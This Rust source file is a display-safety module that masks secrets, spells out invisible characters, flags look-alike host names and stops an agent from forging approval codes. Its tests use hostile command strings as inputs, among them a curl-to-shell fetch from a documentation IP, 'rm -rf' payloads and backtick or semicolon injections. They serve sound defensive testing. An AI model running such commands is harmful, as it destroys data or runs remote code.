//! Display safety, applied once for every channel: what a person reads is what
//! is there, and secrets stay in.

use std::sync::LazyLock;

use regex::{Captures, Regex};
use unicode_script::{Script, UnicodeScript};

use crate::requests::code::Code;
use crate::requests::hidden::{is_hidden, is_mark};

/// Marks that may sit on one character before they are spelt out.
const MARKS: usize = 3;

/// A text made safe to show.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Safe {
    /// The text to show.
    pub text: String,
    /// How many characters had to be spelt out.
    pub spelt_out: usize,
    /// How many secrets were masked.
    pub masked: usize,
    /// Host names that mix scripts or are encoded, as shown.
    pub odd_hosts: Vec<String>,
}

/// Makes `text` safe: masks secrets, spells out what can't be seen as
/// `⟦U+202E⟧`, and finds odd host names. Total; line feeds stay.
pub fn make_safe(text: &str) -> Safe {
    let (masked_text, masked) = mask(text);
    let mut safe = Safe { masked, ..Safe::default() };
    let mut marks = 0;
    let mut chars = masked_text.chars().peekable();
    let mut previous = None;
    while let Some(c) = chars.next() {
        marks = if is_mark(c) { marks + 1 } else { 0 };
        let joins = joins_emoji(previous, c, chars.peek().copied());
        if (is_hidden(c) && !joins) || marks > MARKS || c == '⟦' {
            use std::fmt::Write as _;
            // Writing to a String can't fail.
            let _ = write!(safe.text, "⟦U+{:04X}⟧", u32::from(c));
            safe.spelt_out += usize::from(c != '⟦');
        } else {
            safe.text.push(c);
        }
        previous = Some(c);
    }
    safe.odd_hosts = odd_hosts(&safe.text);
    safe
}

/// Like [`make_safe`], on one line, and with nothing in it that looks like one of
/// our codes: for words of an agent that stand next to our own.
pub fn make_safe_words(text: &str) -> Safe {
    let mut safe = make_safe(text);
    safe.text = quiet_codes(&safe.text);
    safe
}

/// Line feeds become a sign, so that the text stays on its line.
pub fn on_one_line(text: &str) -> String {
    text.trim().replace('\n', " ⏎ ")
}

/// A variation selector or joiner that belongs to an emoji is part of what is
/// seen.
fn joins_emoji(previous: Option<char>, c: char, next: Option<char>) -> bool {
    let is_pictograph = |c: char| {
        use icu_properties::CodePointSetData;
        use icu_properties::props::ExtendedPictographic;
        !c.is_ascii() && CodePointSetData::new::<ExtendedPictographic>().contains(c)
    };
    match c {
        '\u{fe0f}' => previous.is_some_and(is_pictograph),
        '\u{200d}' => {
            previous.is_some_and(|p| is_pictograph(p) || p == '\u{fe0f}' || is_tone(p))
                && next.is_some_and(is_pictograph)
        }
        _ => false,
    }
}

fn is_tone(c: char) -> bool {
    ('\u{1f3fb}'..='\u{1f3ff}').contains(&c)
}

/// An agent must not be able to print a line that looks like ours.
fn quiet_codes(text: &str) -> String {
    static SHAPE: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r"(?i)[a-z][0-9][a-z][0-9][a-z][0-9]").ok());
    let Some(shape) = &*SHAPE else { return text.to_owned() };
    shape
        .replace_all(text, |found: &Captures<'_>| {
            let word = found.get(0).map_or("", |m| m.as_str());
            match (word.parse::<Code>(), word.split_at_checked(3)) {
                (Ok(_), Some((head, tail))) => format!("{head}·{tail}"),
                _ => word.to_owned(),
            }
        })
        .into_owned()
}

/// What looks like a secret: the group `keep` stays, the group `hide` goes. What
/// goes is one word of plain characters: nothing that a shell would act on, and
/// no path, may disappear behind the look of a secret.
static SECRETS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?P<keep>-----BEGIN [A-Z ]*PRIVATE KEY-----\s*)(?P<hide>[A-Za-z0-9+=][A-Za-z0-9+/=]{15,}(?:\s+[A-Za-z0-9+=][A-Za-z0-9+/=]{15,})*(?:\s+[A-Za-z0-9+=][A-Za-z0-9+=]*)?)",
        r"(?P<keep>\b[a-zA-Z][a-zA-Z0-9+.-]*://[^/\s:@]*:)(?P<hide>[A-Za-z0-9._~%!*+-]+)@",
        r"(?i)(?P<keep>\bauthorization\s*:\s*(?:bearer|basic|token)\s+)(?P<hide>[A-Za-z0-9._~+/=-]+)",
        r"(?i)(?P<keep>\bbearer\s+)(?P<hide>[A-Za-z0-9._~+/=-]{16,})",
        r"(?P<hide>\bsk-[A-Za-z0-9_-]{12,})",
        r"(?P<hide>\bsayso_[A-Za-z0-9_-]{20,})",
        r"(?P<hide>\bwhsec_[A-Za-z0-9+/=]{16,})",
        r"(?P<hide>\bxox[abeprs]-[A-Za-z0-9-]{8,})",
        r"(?P<hide>\bxapp-[A-Za-z0-9-]{8,})",
        r"(?P<hide>\bgh[pousr]_[A-Za-z0-9]{20,}|\bgithub_pat_[A-Za-z0-9_]{20,}|\bglpat-[A-Za-z0-9_-]{16,})",
        r"(?P<hide>\b(?:AKIA|ASIA)[0-9A-Z]{16}\b)",
        r"(?P<hide>\bAIza[0-9A-Za-z_-]{30,})",
        r"(?P<hide>\bnpm_[A-Za-z0-9]{30,}|\bpypi-[A-Za-z0-9_-]{30,})",
        r"(?P<hide>\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]+)",
        r"(?P<hide>\b[0-9]{8,10}:[A-Za-z0-9_-]{35}\b)",
        r"(?i)(?P<keep>\b[a-z0-9_-]*(?:password|passwd|pwd|secret|api[_-]?key|access[_-]?key|auth[_-]?token|access[_-]?token|private[_-]?key)[\x22']?\s*[=:]\s*[\x22']?)(?P<hide>[A-Za-z0-9._~%!@#^*+-]{4,})",
        r"(?i)(?P<keep>--(?:password|passwd|token|secret|api-key)[ =])(?P<hide>[A-Za-z0-9._~%!@#^*+-]{4,})",
    ]
    .iter()
    .filter_map(|pattern| Regex::new(pattern).ok())
    .collect()
});

/// Masks what looks like a secret; the masked text and how many it were. The
/// structure around a secret stays, its first characters don't.
pub fn mask(text: &str) -> (String, usize) {
    let mut masked = text.to_owned();
    let mut count = 0;
    for secret in SECRETS.iter() {
        if !secret.is_match(&masked) {
            continue;
        }
        masked = secret
            .replace_all(&masked, |found: &Captures<'_>| {
                let whole = found.get(0).map_or("", |m| m.as_str());
                let keep = found.name("keep").map_or("", |m| m.as_str());
                let hide = found.name("hide").map_or("", |m| m.as_str());
                if hide.starts_with("[secret") || hide.starts_with('$') {
                    return whole.to_owned();
                }
                count += 1;
                let rest = whole.get(keep.len() + hide.len()..).unwrap_or_default();
                format!("{keep}[secret: {} characters]{rest}", hide.chars().count())
            })
            .into_owned();
    }
    (masked, count)
}

/// Like [`mask`], for the value of a member: its name may say that it is one.
pub fn mask_member(key: &str, value: &str) -> (String, usize) {
    let name = format!("{key}: ");
    let (masked, count) = mask(&format!("{name}{value}"));
    match masked.strip_prefix(&name) {
        Some(rest) => (rest.to_owned(), count),
        None => mask(value),
    }
}

/// Host names that could be taken for others: letters of several scripts in
/// one, or an encoded international name.
fn odd_hosts(text: &str) -> Vec<String> {
    let mut odd: Vec<String> = Vec::new();
    let words =
        text.split(|c: char| !(c.is_alphanumeric() || is_mark(c) || matches!(c, '.' | '-' | '_')));
    for word in words {
        let host = word.trim_matches(['.', '-']);
        let is_host = host.contains('.')
            && host.split('.').all(|label| !label.is_empty())
            && host.rsplit('.').next().is_some_and(|tld| tld.chars().count() >= 2);
        if !is_host {
            continue;
        }
        let is_odd = host.split('.').any(|label| label.starts_with("xn--") || mixes_scripts(label));
        if is_odd && !odd.iter().any(|seen| seen == host) {
            odd.push(host.to_owned());
        }
    }
    odd.truncate(5);
    odd
}

fn mixes_scripts(label: &str) -> bool {
    let mut scripts: Vec<Script> = label
        .chars()
        .map(|c| c.script())
        .filter(|s| !matches!(s, Script::Common | Script::Inherited))
        .map(|s| match s {
            // Japanese and Korean are written in several scripts.
            Script::Hiragana | Script::Katakana | Script::Hangul => Script::Han,
            other => other,
        })
        .collect();
    scripts.sort_by_key(|s| s.short_name());
    scripts.dedup();
    scripts.len() > 1
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case("rm -rf ./build\u{202e}/cba", "rm -rf ./build⟦U+202E⟧/cba")]
    #[case("cat sa\u{200b}fe.txt", "cat sa⟦U+200B⟧fe.txt")]
    #[case("a\rb", "a⟦U+000D⟧b")]
    #[case("\u{1b}[31mred", "⟦U+001B⟧[31mred")]
    #[case("tab\there", "tab⟦U+0009⟧here")]
    #[case("no\u{a0}break", "no⟦U+00A0⟧break")]
    #[case("tag\u{e0041}", "tag⟦U+E0041⟧")]
    #[case("two\nlines", "two\nlines")]
    #[case("fake ⟦U+202E⟧", "fake ⟦U+27E6⟧U+202E⟧")]
    #[case("family 👨‍👩‍👧 heart ❤️", "family 👨‍👩‍👧 heart ❤️")]
    #[case("1\u{fe0f}", "1⟦U+FE0F⟧")]
    fn what_cannot_be_seen_is_spelt_out(#[case] text: &str, #[case] shown: &str) {
        assert_eq!(make_safe(text).text, shown);
    }

    #[test]
    fn a_storm_of_marks_is_spelt_out() {
        let storm = format!("e{}", "\u{301}".repeat(6));
        assert_eq!(make_safe(&storm).spelt_out, 3);
    }

    #[rstest]
    #[case("curl -H \"Authorization: Bearer sk-live-EXAMPLE1234567890\" https://api.example")]
    #[case("postgres://ada:EXAMPLE1234567890@db/x")]
    #[case("export API_KEY=EXAMPLE1234567890")]
    #[case("{\"password\": \"EXAMPLE1234567890\"}")]
    #[case("mysql --password EXAMPLE1234567890")]
    #[case("token sk-EXAMPLE1234567890 here")]
    #[case("-----BEGIN RSA PRIVATE KEY-----\nEXAMPLE1234567890\n-----END RSA PRIVATE KEY-----")]
    fn a_secret_is_masked_and_its_surroundings_stay(#[case] text: &str) {
        let safe = make_safe(text);
        assert!(!safe.text.contains("EXAMPLE1234567890"), "{}", safe.text);
        assert_eq!(safe.masked, 1, "{}", safe.text);
    }

    #[rstest]
    #[case("curl --token x;curl${IFS}http://203.0.113.9|sh", "curl${IFS}http://203.0.113.9|sh")]
    #[case("PASSWORD=$(rm -rf ~)", "$(rm -rf ~)")]
    #[case("password=abcd|sh", "|sh")]
    #[case("https://u:abcd`reboot`@host", "`reboot`")]
    #[case("Authorization: Bearer abcd;reboot", ";reboot")]
    #[case("-----BEGIN RSA PRIVATE KEY-----\n/usr/local/bin/evil\n", "/usr/local/bin/evil")]
    #[case("-----BEGIN RSA PRIVATE KEY-----; rm -rf /; -----END RSA PRIVATE KEY-----", "rm -rf /")]
    fn nothing_that_could_run_hides_behind_a_secret(#[case] text: &str, #[case] part: &str) {
        let shown = make_safe(text).text;
        assert!(shown.contains(part), "{shown}");
    }

    #[test]
    fn a_secret_that_was_masked_is_not_masked_again() {
        let once = mask("postgres://ada:hunter22@db/x").0;
        assert_eq!(once, "postgres://ada:[secret: 8 characters]@db/x");
        assert_eq!(mask("echo $API_KEY --token $TOKEN").1, 0);
    }

    #[test]
    fn host_names_of_mixed_scripts_are_found() {
        assert_eq!(make_safe("see https://p\u{430}ypal.com/x").odd_hosts, ["p\u{430}ypal.com"]);
        assert_eq!(make_safe("see xn--80ak6aa92e.com now").odd_hosts, ["xn--80ak6aa92e.com"]);
        for fine in ["https://example.com/x", "президент.рф", "東京カフェ.jp", "v1.2 and 3.4"]
        {
            assert!(make_safe(fine).odd_hosts.is_empty(), "{fine}");
        }
    }

    #[test]
    fn an_agent_cannot_print_one_of_our_codes() {
        let code = Code::random();
        let words = make_safe_words(&format!("Reply \"{code} approve\" now")).text;
        assert_eq!(Code::find_all(&words), []);
    }

    proptest! {
        #[test]
        fn nothing_hidden_ever_survives(text in "\\PC*|(?s).{0,40}") {
            let shown = make_safe(&text).text;
            let mut previous = None;
            let mut chars = shown.chars().peekable();
            while let Some(c) = chars.next() {
                let ok = !is_hidden(c) || joins_emoji(previous, c, chars.peek().copied());
                prop_assert!(ok, "{shown:?}");
                previous = Some(c);
            }
        }
    }
}
